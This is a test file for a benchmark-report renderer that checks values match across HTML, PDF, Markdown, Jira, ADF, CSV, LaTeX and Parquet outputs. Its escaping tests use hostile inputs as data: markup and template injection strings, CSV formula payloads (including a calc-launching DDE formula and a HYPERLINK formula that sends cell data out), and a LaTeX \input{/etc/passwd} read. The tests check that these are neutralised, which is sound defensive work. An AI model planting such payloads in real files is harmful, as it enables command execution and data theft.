import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import MarkdownIt from 'markdown-it';
import { expect, test } from 'vitest';
import { drawFigures } from '../../src/render/figures/figure-set.ts';
import { svgToPng } from '../../src/render/figures/png.ts';
import { adfReport } from '../../src/render/flow/adf.ts';
import { jiraReport } from '../../src/render/flow/jira.ts';
import { markdownReport } from '../../src/render/flow/markdown.ts';
import { pictureFiles } from '../../src/render/flow/pictures.ts';
import { tableCsv } from '../../src/render/formats/csv.ts';
import { dataPackage } from '../../src/render/formats/data-package.ts';
import { latexTable } from '../../src/render/formats/latex.ts';
import { htmlReport } from '../../src/render/page/html.ts';
import { render } from '../../src/render/render.ts';
import { tableParquet } from '../../src/render/tables/parquet.ts';
import { setTable } from '../../src/render/tables/tables.ts';
import type { Block, Document, ValueRef } from '../../src/report/document.ts';
import { styleGuide } from './style-guide.ts';

/** Kinds of white space are the format's own, a no-break space here and a plain one there. */
function spaced(text: string): string {
  return text.replace(/[\s\u00a0\u202f]+/g, ' ');
}

async function pdfText(document: Document): Promise<string> {
  const directory = await mkdtemp(join(tmpdir(), 'benchbook-same-'));
  try {
    await render({ document, directory, formats: ['pdf'], progress: () => {} });
    return (await execa('pdftotext', ['-raw', join(directory, 'report.pdf'), '-'])).stdout;
  } finally {
    await rm(directory, { recursive: true, force: true });
  }
}

function withSections(sections: readonly Block[]): Document {
  return { ...styleGuide(), sections, appendices: [], verdict: [], doubts: [], glance: [], summary: [], tickets: [] };
}

test('the same figure and table numbers and the same values stand in HTML, PDF, Markdown, Jira and ADF', async () => {
  const document = styleGuide();
  const html = htmlReport(document, await drawFigures(document), { isStatic: true });
  const outputs = {
    html: unescaped(html),
    md: markdownReport(document, 'none'),
    jira: jiraReport(document, []),
    adf: adfReport(document),
    pdf: await pdfText(document),
  };
  const values = valuesIn(document.sections).concat(valuesIn(document.summary));
  expect(values.length).toBeGreaterThan(8);
  for (const [name, output] of Object.entries(outputs)) {
    for (const value of values) expect(spaced(output), `${name} lacks ${value.text}`).toContain(spaced(value.text));
    for (let number = 1; number <= 11; number++) expect(output, name).toContain(`Figure ${number}.`);
    expect(output, name).toContain('Table 1.');
    for (const row of setTable(document.tables.rss!).rows)
      for (const cell of row) expect(spaced(output), name).toContain(spaced(cell.text));
  }
});

test('a verdict with a word of its own prints that word everywhere', async () => {
  const guide = styleGuide();
  const document: Document = {
    ...guide,
    summary: [{ verdict: 'refuted', label: 'Fixed', content: ['the defect'] }],
    sections: [],
    appendices: [],
  };
  const outputs = [
    htmlReport(document, new Map(), { isStatic: true }),
    markdownReport(document, 'none'),
    jiraReport(document, []),
    adfReport(document),
  ];
  for (const output of outputs) {
    expect(output).toContain('Fixed');
    expect(output).not.toContain('Refuted');
  }
});

const HOSTILE = `<b>x</b> {{ page }} {% raw %} {code} [a|b] |c| *d* _e_ \`f\` ![i](http://h/) ~~g~~ !h.png! & "q" \\ # {color:red}`;

test('in Markdown, hostile text renders as itself and as nothing else', () => {
  const sections: Block[] = [
    { type: 'heading', level: 2, text: HOSTILE, id: 'h' },
    {
      type: 'facts',
      items: [
        { term: 'term', text: HOSTILE },
        { term: 'code', text: HOSTILE, code: true },
      ],
    },
    { type: 'callout', kind: 'note', title: HOSTILE, content: ['- a\n- b'] },
    { type: 'code', language: 'sql', text: '```\n</code>\n````' },
  ];
  const source = markdownReport(withSections(sections), 'hugo');
  // In code, `render_with_liquid: false` of the Jekyll head does it.
  expect(source.replace(/``.*``/g, '')).not.toMatch(/\{\{ page|\{% raw/);
  const page = new MarkdownIt({ html: true }).render(source.replace(/^---[\s\S]*?---/, ''));
  expect(page).not.toMatch(/<b>|<img|<em>|<del>/);
  const words = unescaped(page.replace(/<[^>]*>/g, ''));
  expect(words.split(HOSTILE)).toHaveLength(5);
  expect(words).toContain('```\n</code>\n````');
});

test('in Jira markup, hostile text opens no macro, link, image or cell', () => {
  const table = { name: 't', columns: [{ key: 'a', title: HOSTILE, kind: 'text' as const }], rows: [[HOSTILE]] };
  const document = {
    ...withSections([
      { type: 'prose', content: ['a ', value(HOSTILE)] },
      { type: 'table', id: 't', title: ['t'], table: 't', notes: [HOSTILE] },
      { type: 'code', language: 'x', text: '{code} and {noformat} inside' },
    ]),
    tables: { t: table },
  };
  const source = jiraReport(document, ['a|b]c.csv']);
  const outside = source.replace(/\{noformat\}[\s\S]*?\{noformat\}/g, '').replace(/\\./g, '');
  expect(outside).not.toMatch(/\{(?!\{|panel|\})|\[(?!\^abc\.csv\])|![^\s]/);
  expect(source.match(/\{noformat\}/g)).toHaveLength(2);
  expect(
    source
      .split('\n')
      .filter((line) => line.startsWith('|'))
      .map((line) => line.replace(/\\./g, '').split('|').length),
  ).toEqual([5, 3]);
});

test('ADF has no empty text and only node types of the schema', () => {
  const known = new Set(
    'doc heading paragraph text hardBreak bulletList orderedList listItem panel codeBlock rule table tableRow tableHeader tableCell blockquote'.split(
      ' ',
    ),
  );
  const bad: string[] = [];
  const check = (node: { type: string; text?: string; content?: never[] }) => {
    if (!known.has(node.type) || node.text === '') bad.push(JSON.stringify(node));
    (node.content ?? []).forEach(check);
  };
  check(JSON.parse(adfReport(styleGuide())));
  expect(bad).toEqual([]);
});

test('CSV keeps numbers whole and quotes what RFC 4180 wants quoted', () => {
  const columns = [
    { key: 'a,b', title: 'a', kind: 'text' as const },
    { key: 'n', title: 'n', kind: 'number' as const },
  ];
  const rows = [
    ['x"y\nz', 0.1 + 0.2],
    [null, -0],
    [' pad', 9007199254740993n as never],
  ];
  expect(tableCsv({ name: 't', columns, rows })).toBe(
    '"a,b",n\r\n"x""y\nz",0.30000000000000004\r\n,0\r\n" pad",9007199254740993\r\n',
  );
});

/** As a reader of our CSV files undoes the protection against formulas: see `src/render/formats/csv.ts`. */
function readBack(field: string): string {
  const text = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
  return /^'+(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/.test(text) ? text.slice(1) : text;
}

test.each([
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\u00a0=1',
  '＝1+1',
  "'=1",
  "''+1",
  '=HYPERLINK("http://h/?"&A1)',
  '--5',
  '-',
  '-1e5x',
  'a;=1',
])('the text %j is no formula in a CSV file, and reads back', (text) => {
  const columns = [{ key: text, title: 't', kind: 'text' as const }];
  const csv = tableCsv({ name: 't', columns, rows: [[text]] });
  const half = csv.length / 2;
  expect(csv.slice(0, half)).toBe(csv.slice(half));
  const field = csv.slice(0, half - 2);
  expect(field.replace(/^"/, '')).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/);
  expect(readBack(field)).toBe(text);
});

test.each([
  ...['a=b', "'quoted'", 'plain'].map((text) => [text, text]),
  // A label that looks like a number is quoted, so that no reader makes 10.1 of 10.10.
  ...['-5', '+0.25', '1e-6', '-1.5E+6', '10.5', '10.10'].map((text) => [text, `"${text}"`]),
])('the text %j stands in a CSV file as %s', (text, written) => {
  const columns = [{ key: 'k', title: 't', kind: 'text' as const }];
  expect(tableCsv({ name: 't', columns, rows: [[text!]] })).toBe(`k\r\n${written}\r\n`);
  expect(readBack(text!)).toBe(text);
});

test('datapackage.json names each file of data/ with the type and unit of its columns', () => {
  const columns = [
    { key: 'server', title: 'server', kind: 'text' as const },
    { key: 'n', title: 'n', kind: 'number' as const },
    { key: 'time', title: 'time', kind: 'number' as const, unit: 's' as const },
    { key: 'ok', title: 'ok', kind: 'text' as const },
    { key: 'none', title: 'none', kind: 'number' as const },
  ];
  const rows = [
    ['10.10', 1, 0.5, true, null],
    ['10.11', 2, null, false, null],
  ];
  const document = { ...styleGuide(), tables: { 'Table 1': { name: 'Table 1', columns, rows } } };
  const { resources } = JSON.parse(dataPackage(document, new Map([['Table 1', 'table-1']])));
  expect(resources).toMatchObject([
    {
      name: 'table-1',
      path: 'table-1.csv',
      schema: {
        fields: [
          { name: 'server', type: 'string' },
          { name: 'n', type: 'integer' },
          { name: 'time', type: 'number', unit: 's' },
          { name: 'ok', type: 'boolean' },
          { name: 'none', type: 'string' },
        ],
      },
    },
  ]);
});

test('numbers in a CSV file stay numbers', () => {
  const columns = [{ key: 'n', title: 'n', kind: 'number' as const }];
  const rows = [[-1.5], [1e-7], [-1e21], [0]];
  expect(tableCsv({ name: 't', columns, rows })).toBe('n\r\n-1.5\r\n1e-7\r\n-1e+21\r\n0\r\n');
});

test('an exported figure has its paper and its type in it, so that it can be read on a dark page', async () => {
  const guide = styleGuide();
  const pictures = await pictureFiles(guide, await drawFigures(guide));
  const svg = String(pictures.find(({ name }) => name === 'figure-1.svg')!.bytes);
  expect(svg).toMatch(/<rect width="100%" height="100%" fill="#[0-9a-f]{6}"\/>/);
  expect(svg).toMatch(/@font-face\{[^}]*Source Sans 3[^}]*data:font\/woff2/);
  expect(svg).not.toContain('Source Serif');
});

test('LaTeX escapes what TeX would run', () => {
  const columns = [{ key: 'a', title: 'a_b & c', kind: 'text' as const }];
  const rows = [['\\input{/etc/passwd} 100% $x$ #1 ~ ^'], ['[2ex] at the start of a row']];
  const source = latexTable({ name: 't', columns, rows }).replaceAll('\\allowbreak{}', '');
  expect(source).toContain(
    '\\textbackslash{}input\\{/etc/passwd\\} 100\\% \\$x\\$ \\#1 \\textasciitilde{} \\textasciicircum{}',
  );
  expect(source).toContain('\n{[}2ex] at');
});

test('Parquet reads back as the table, by another program’s reader', async () => {
  const samples = styleGuide().tables.samples!;
  const bytes = tableParquet(samples);
  const file = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
  const rows = await parquetReadObjects({ file });
  expect(rows.map((row) => samples.columns.map((column) => row[column.key]))).toEqual(samples.rows);
  expect(parquetMetadata(file).key_value_metadata).toContainEqual({ key: 'unit:rss', value: 'B' });
  expect(Buffer.from(tableParquet(samples)).equals(Buffer.from(bytes))).toBe(true);
});

test('a figure becomes a PNG of twice its size', async () => {
  const { wide } = (await drawFigures(styleGuide())).get('fig-heat')!;
  const png = Buffer.from(await svgToPng(wide));
  expect(png.subarray(1, 4).toString()).toBe('PNG');
  expect(png.readUInt32BE(16)).toBe(1400);
});

function valuesIn(part: unknown): ValueRef[] {
  if (part === null || typeof part !== 'object') return [];
  if ('samplesId' in part) return [part as ValueRef];
  return Object.values(part).flatMap(valuesIn);
}

function value(text: string): ValueRef {
  return { text, n: 1, value: 1, metric: 'm', filter: 'f', expression: 'e', samplesId: 's' };
}

function unescaped(html: string): string {
  return html
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#x27;|&#39;/g, "'")
    .replace(/&amp;/g, '&');
}
